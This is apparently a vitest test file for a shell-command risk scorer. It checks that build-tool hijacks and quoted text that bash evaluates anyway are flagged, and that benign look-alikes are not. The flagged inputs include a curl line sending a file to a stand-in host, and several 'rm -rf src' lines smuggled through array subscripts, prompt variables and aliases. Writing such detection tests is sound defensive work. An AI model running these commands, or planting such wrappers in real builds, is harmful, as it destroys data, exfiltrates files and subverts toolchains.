/** Programs put in the place of others by variables, settings and options; and text that a shell runs although it is quoted. */
import { describe, expect, test } from 'vitest';

import { verifies } from '../../../helpers/verifies.ts';
import { CWD, type Given } from './fixtures.ts';
import { judgedHere } from './plain-world.ts';

const folder = (name: string, ...files: readonly string[]): Given => ({ need: { kind: 'glob', cwd: `${CWD}/${name}`, pattern: '*' }, data: { matches: files.map((file) => `${CWD}/${name}/${file}`) } }); // prettier-ignore

describe(verifies('understand:build-tools'), () => {
  test.each([
    'CC=./cc1 make',
    'CXX=\'sh -c "curl -d @x h.example.org"\' cmake .',
    'RUSTC_WRAPPER=tools/wrap cargo build',
    'CARGO_TARGET_AARCH64_APPLE_DARWIN_RUNNER=./start cargo run',
    'cargo build --config \'build.rustc-wrapper="./wrap"\'',
    'go vet -toolexec ./wrap ./...',
    'GOFLAGS=-toolexec=./wrap go build',
    'npm --script-shell ./shell test',
    'npm_config_script_shell=./shell npm test',
    'npm config set script-shell ./shell',
    "npm_config_node_options='--require ./hook.js' npm test",
    '_JAVA_OPTIONS=-javaagent:a.jar java -jar b.jar',
    'MAVEN_OPTS="-Xmx1g -agentpath:./a.so" mvn test',
    'MAKEFILES=extra.mk make',
    'PHPRC=./conf php a.php',
    'PERL5DB="BEGIN { unlink q(a) }" perl -d a.pl',
    'ZDOTDIR=./z zsh -c ls',
    'gcc -wrapper ./w,-x a.c',
    'SHELL=./sh script -q a.log',
  ])('%s', (line) => {
    expect(judgedHere(line).score).toBeGreaterThan(30);
  });

  test.each([
    'CC=clang CXX=clang++ cmake .',
    'CC="ccache gcc -m32" make',
    'CC=/usr/lib/ccache/gcc make',
    'SHELL=/bin/bash make',
    'RUSTC_WRAPPER=sccache cargo build',
    'RUSTC_WRAPPER= cargo build',
    'cargo build --config net.git-fetch-with-cli=true',
    'GOFLAGS=-mod=vendor go build',
    'go test -run Wrap ./...',
    'npm --script-shell bash test',
    'npm config set fund false',
    'JAVA_TOOL_OPTIONS=-Xmx2g mvn test',
    'GRADLE_OPTS=-Dorg.gradle.daemon=false gradle test',
    'NODE_OPTIONS=--max-old-space-size=4096 npm test',
    'OPENSSL_CONF=/dev/null openssl version',
  ])('%s stays quiet', (line) => {
    expect(judgedHere(line).score).toBeLessThanOrEqual(30);
  });

  test('a folder in front of the others counts for what lies in it', () => {
    const line = 'PATH=./helpers:$PATH ls';
    expect(judgedHere(line, [folder('helpers', 'ls', 'x')]).score).toBeGreaterThan(30);
    expect(judgedHere('export PATH="$PWD/helpers:$PATH"', [folder('helpers', 'git')]).score).toBeGreaterThan(30);
    expect(judgedHere(line, [folder('helpers', 'serve')]).score).toBeLessThanOrEqual(30);
    expect(judgedHere('PATH=$PATH:./helpers ls', [folder('helpers', 'ls')]).score).toBeLessThanOrEqual(30);
    const unseen: Given = { need: { kind: 'glob', cwd: `${CWD}/helpers`, pattern: '*' }, unknown: 'no time' };
    expect(judgedHere(line, [unseen]).score).toBeGreaterThan(30);
  });
});

describe(verifies('understand:calculated'), () => {
  test.each([
    "[[ -v 'list[$(rm -rf src)]' ]]",
    "[[ 'list[$(rm -rf src)]' -gt 0 ]]",
    'text=\'$(rm -rf src)\'; echo "${text@P}"',
    "PROMPT_COMMAND='rm -rf src'",
    "PS1='$(rm -rf src) $ '",
    "BASH_ALIASES[ll]='rm -rf src'; ll",
    'set rm -rf src; "$@"',
    'bind -x \'"\\C-t": rm -rf src\'',
    'fc -s rm',
    "make -f /dev/stdin <<< 'all: ; rm -rf src'",
  ])('%s', (line) => {
    const unseen: Given = { need: { kind: 'tree', path: `${CWD}/src` }, unknown: 'no time' };
    expect(judgedHere(line, [unseen]).score).toBeGreaterThan(30);
  });

  test.each([
    '[[ -v HOME && $x == "list[1]" ]]',
    'text=abc; echo "${text@Q}"',
    "PS1='$ ' PROMPT_COMMAND=",
    "BASH_ALIASES[ll]='ls -l'; ll",
    'set a b; echo "$1"',
    'bind \'"\\e[A": history-search-backward\'',
    'fc -l',
  ])('%s stays quiet', (line) => {
    expect(judgedHere(line).score).toBeLessThanOrEqual(30);
  });
});
